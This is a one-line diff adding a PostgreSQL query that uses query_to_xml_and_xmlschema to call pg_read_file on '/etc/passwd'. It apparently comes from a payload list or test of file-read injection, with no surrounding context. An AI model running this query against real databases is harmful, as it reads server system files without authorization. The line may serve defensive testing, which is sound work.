@@ -1,0 +1,1 @@
+SELECT query_to_xml_and_xmlschema('SELECT pg_read_file(''/etc/passwd'')', true, true, '')
